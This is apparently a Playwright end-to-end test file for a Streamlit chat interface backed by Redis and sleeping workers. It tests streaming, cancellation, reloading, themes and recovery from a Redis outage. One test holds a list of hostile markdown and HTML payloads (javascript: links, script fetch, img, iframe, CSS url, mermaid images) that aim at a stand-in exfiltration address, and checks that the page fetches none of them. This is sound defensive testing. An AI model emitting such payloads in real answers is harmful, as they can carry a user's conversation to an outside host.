"""The whole way in a real browser: page, Redis, supervisor and workers run as they do for a user."""

import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Locator, Page, ViewportSize, WebSocketRoute, expect
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg

from greenscale_jobs import JobClient
from greenscale_testing.browser import DESKTOP, PHONE, InstanceWithPage, Visit
from greenscale_testing.openai_server import ServerInThread

Open = Callable[..., Visit]

SPOKEN = " ".join(f"word{number}" for number in range(80))
"""Echo says it in 4 s: long enough to be watched while it grows."""

CONVERSATION = """Why is the sky blue? Please answer with

1. the **one** sentence that a child understands,
2. the formula, `I ~ 1/λ⁴`, in words.
"""


def field(page: Page) -> Locator:
    return page.get_by_role("textbox", name="Prompt")


def send(page: Page, prompt: str) -> None:
    field(page).fill(prompt)
    page.get_by_role("button", name="Send").click()


def answer(page: Page) -> Locator:
    """The last answer of the conversation."""
    return page.get_by_label("Chat message from assistant").last


def state(page: Page, word: str) -> Locator:
    return page.locator(".stMarkdownBadge").filter(has_text=re.compile(rf"{word}$"))


def finish(page: Page) -> None:
    """Wait until the job's progress is complete, and its earlier state has left the page."""
    expect(answer(page)).to_contain_text(re.compile(r"\d s in all"))
    expect(page.get_by_role("button", name="Cancel")).to_have_count(0)


@pytest.fixture
def engine() -> Iterator[ServerInThread]:
    with ServerInThread() as server:
        yield server


@pytest.fixture
def held(engine: ServerInThread, tmp_path: Path) -> Iterator[InstanceWithPage]:
    """One whose engine says half of an answer, and the rest when the test has read the page: that may take seconds."""
    instance = InstanceWithPage(tmp_path / "run", tmp_path / "workload.yaml")
    instance.engine = {"type": "OpenAI", "openAI": {"model": "held", "baseURL": engine.url}}
    instance.asleep_after = 8
    instance.start(OPENAI_API_KEY="any")
    yield instance
    instance.stop()


def test_a_prompt_wakes_a_worker_streams_its_answer_and_lets_it_sleep_again(
    visit: Open, held: InstanceWithPage, engine: ServerInThread
) -> None:
    opened = visit("/prompt", of=held)
    page = opened.page
    expect(state(page, "Asleep")).to_be_visible()
    opened.picture("asleep-light")
    with held.claims_nothing():
        send(page, "short")

        expect(state(page, "Waking")).to_be_visible()
        expect(page.get_by_text(re.compile(r"^Waking for \d"))).to_be_visible()
        expect(answer(page)).to_contain_text(re.compile(r"queued \d\S* s .*waking \d.* claimed .* first token .* done"))
        expect(answer(page)).to_contain_text("Next in line.")
        expect(field(page)).to_have_value("")
        opened.picture("waking-light")

    expect(answer(page)).to_contain_text("one")
    expect(state(page, "Working")).to_be_visible()
    expect(page.get_by_text("1 running, 0 waiting, 1 of 4 workers.")).to_be_visible()
    expect(answer(page)).to_be_in_viewport()
    expect(answer(page)).not_to_contain_text("one two")
    opened.picture("working-light")
    engine.release()
    finish(page)
    expect(answer(page)).to_contain_text("one two")
    expect(answer(page)).to_contain_text(re.compile(r"\d s in all, \d\S* s of it asleep"))
    expect(page.get_by_text(re.compile(r"Idle\. Asleep again in \d s\."))).to_be_visible()
    expect(state(page, "Asleep")).to_be_visible()
    expect(page.get_by_text(re.compile(r"A prompt wakes it in about \d\S* s \(")).first).to_be_visible()


def test_ctrl_enter_sends_and_what_is_typed_meanwhile_stays(visit: Open) -> None:
    page = visit("/prompt").page
    field(page).fill(SPOKEN)
    field(page).press("Control+Enter")
    expect(answer(page)).to_contain_text("word3")
    field(page).fill("my next thought")
    finish(page)

    expect(field(page)).to_have_value("my next thought")


def test_a_running_job_can_be_cancelled(visit: Open) -> None:
    page = visit("/prompt").page
    send(page, SPOKEN * 4)
    expect(answer(page)).to_contain_text("word3")
    page.get_by_role("button", name="Cancel").click()

    expect(answer(page)).to_contain_text("Cancelled.")
    expect(page.get_by_role("button", name="Send")).to_be_enabled()
    expect(page.get_by_role("button", name="Cancel")).to_have_count(0)


def test_cancel_stays_where_it_is_while_the_answer_grows(visit: Open) -> None:
    """What moves between press and release of the mouse is not clicked."""
    page = visit("/prompt").page
    send(page, SPOKEN * 4)
    cancel = page.get_by_role("button", name="Cancel")

    def depth() -> float:
        """How far below the top of its message it is."""
        return float(
            cancel.evaluate("e => e.getBoundingClientRect().y - e.closest('.stChatMessage').getBoundingClientRect().y")
        )

    expect(answer(page)).to_contain_text("word3")
    before = depth()
    expect(answer(page)).to_contain_text("word60")
    assert depth() == before
    cancel.click()
    expect(answer(page)).to_contain_text("Cancelled.")


def test_cancel_leaves_with_the_end_of_the_job(visit: Open) -> None:
    """Not only when the browser hears that a run of the page has ended: on a busy machine that is late."""
    page = visit("/").page
    page.route_web_socket("**/_stcore/stream", without_ends)
    page.goto(f"{page.url.rstrip('/')}/prompt")
    send(page, "one two three")

    finish(page)


def test_a_conversation_goes_on_and_a_reloaded_page_shows_it_all(visit: Open) -> None:
    page = visit("/prompt").page
    send(page, "Say hello")
    finish(page)
    expect(field(page)).to_have_attribute("placeholder", re.compile("Ask a follow-up"))
    send(page, "Why is the sky blue?")
    expect(page.get_by_label("Chat message from user")).to_have_count(2)
    finish(page)
    before = answer(page).inner_text()
    page.reload()
    finish(page)

    assert "?job=" in page.url
    assert answer(page).inner_text() == before
    assert "Why is the sky blue?" in before
    expect(page.get_by_label("Chat message from user")).to_have_text(["Say hello", "Why is the sky blue?"])
    page.get_by_role("button", name="New chat").click()
    expect(page.get_by_label("Chat message from user")).to_have_count(0)
    assert "?job=" not in page.url


def without_ends(route: WebSocketRoute) -> None:
    """Let the browser hear all that the server says, but not that a run of the page has ended."""
    server = route.connect_to_server()

    def pass_on(message: str | bytes) -> None:
        assert isinstance(message, bytes)
        if ForwardMsg.FromString(message).WhichOneof("type") != "script_finished":
            route.send(message)

    server.on_message(pass_on)


def test_a_new_chat_removes_the_conversation_at_once(visit: Open, instance: InstanceWithPage, answered: str) -> None:
    """Streamlit takes away what is drawn no more when it hears that a run has ended: on a busy machine that is late."""
    page = visit("/").page
    page.route_web_socket("**/_stcore/stream", without_ends)
    page.goto(f"{instance.url}/prompt?job={answered}")
    expect(answer(page)).to_contain_text(re.compile(r"\d s in all"))
    page.get_by_role("button", name="New chat").click()

    expect(page.get_by_label("Chat message from user")).to_have_count(0)
    expect(field(page)).to_have_attribute("placeholder", "Ask anything. Ctrl+Enter to send.")


@pytest.fixture(scope="module")
def answered(instance: InstanceWithPage) -> str:
    """A job that is done."""
    with JobClient(instance.address) as client:
        job_id = client.submit(CONVERSATION)
        client.result(job_id)
    return job_id


@pytest.mark.parametrize(
    ("scheme", "viewport"),
    [
        pytest.param("light", DESKTOP, id="light"),
        pytest.param("dark", DESKTOP, id="dark"),
        pytest.param("light", PHONE, id="phone"),
        pytest.param("dark", PHONE, id="phone in the dark"),
    ],
)
def test_the_page_fits_where_it_is_opened(visit: Open, answered: str, scheme: str, viewport: ViewportSize) -> None:
    opened = visit(f"/?job={answered}", viewport=viewport, color_scheme=scheme)
    page = opened.page
    finish(page)
    expect(state(page, "Asleep")).to_be_visible()
    expect(field(page)).to_be_in_viewport()
    expect(answer(page)).to_be_in_viewport()
    opened.picture(f"done-{scheme}-{viewport['width']}")

    assert page.evaluate("document.querySelector('.stMain').scrollWidth") <= viewport["width"]
    background = page.evaluate("getComputedStyle(document.querySelector('.stApp')).backgroundColor")
    brightness = sum(map(int, re.findall(r"\d+", background)[:3])) / 3
    assert (brightness < 128) == (scheme == "dark"), background


HOSTILE = """[click](javascript:window.hacked=1) <a href="javascript:window.hacked=1">click</a>
$\\\\href{{javascript:window.hacked=1}}{{x}}$ :red-background[![x]({evil}/in-a-mark)] ![x]( {evil}/space "t")
<img src="{evil}/html"> <script>fetch("{evil}/script")</script> ![x]({evil}/markdown)
![x][r] [![x]({evil}/linked)](http://example.org) :material/{evil}: $\\includegraphics{{{evil}/tex}}$
<style>body {{ background: url({evil}/style) }}</style> <iframe src="{evil}/frame"></iframe>

[r]: {evil}/reference

```html
<img src="{evil}/code">
```

```mermaid
flowchart TD
    A@{{ img: "{evil}/mermaid", label: "x" }}
    B["<img src='{evil}/label'>"]
    click B "javascript:window.hacked=1"
```
"""


def test_a_hostile_answer_makes_the_browser_fetch_nothing(visit: Open, instance: InstanceWithPage) -> None:
    """A model repeats what it read: a picture's address could carry the conversation away."""
    evil = "http://127.0.0.1:9/secret"
    opened = visit("/prompt")
    send(opened.page, HOSTILE.format(evil=evil))
    finish(opened.page)
    opened.picture("hostile-light")
    opened.page.reload()
    expect(answer(opened.page)).to_contain_text(f'<iframe src="{evil}/frame">')
    expect(answer(opened.page).locator("code").last).to_contain_text("flowchart TD")

    assert len(opened.requested) > 10
    assert opened.elsewhere(instance.url) == []
    assert answer(opened.page).locator("img, image, script, iframe, object, embed").count() == 0
    assert answer(opened.page).locator("a[href^=javascript]").count() == 0


def test_a_redis_that_hangs_is_reported_and_the_page_recovers_by_itself(
    visit: Open, instance: InstanceWithPage
) -> None:
    opened = visit("/prompt")
    page = opened.page
    send(page, "before")
    finish(page)
    field(page).fill("a long thought")
    away = page.get_by_text(f"Redis at {instance.address} does not answer").first
    with instance.redis_frozen():
        expect(away).to_be_visible()
        opened.picture("redis-away-light")

        expect(field(page)).to_have_value("a long thought")

    expect(away).to_have_count(0)
    expect(state(page, "Asleep")).to_be_visible()
    expect(field(page)).to_have_value("a long thought")
    page.get_by_role("button", name="Send").click()
    finish(page)
    expect(answer(page)).to_contain_text("a long thought")
